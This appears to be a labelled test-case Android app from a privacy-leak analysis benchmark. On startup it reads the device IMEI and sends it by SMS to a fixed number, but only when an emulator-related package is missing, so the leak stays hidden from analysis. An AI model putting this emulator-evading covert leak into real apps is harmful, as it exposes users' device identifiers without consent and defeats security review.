// about       The value is sent where an emulator's app is not there, which an exception says.
// leak        DEV_IMEI sms
package cn.example.flow;

import android.app.Activity;
import android.content.pm.PackageManager;
import android.os.Bundle;
import android.telephony.SmsManager;
import android.telephony.TelephonyManager;

public class MainActivity extends Activity {
  @Override
  protected void onCreate(Bundle state) {
    super.onCreate(state);
    TelephonyManager phone = (TelephonyManager) getSystemService(TELEPHONY_SERVICE);
    String imei = phone.getDeviceId();
    try {
      getPackageManager().getPackageInfo("com.example.player.emulated", 0);
      SmsManager.getDefault().sendTextMessage("10690000", null, "emulator", null, null);
    } catch (PackageManager.NameNotFoundException e) {
      // The ordinary case.
      SmsManager.getDefault().sendTextMessage("10690000", null, imei, null, null);
    }
  }
}
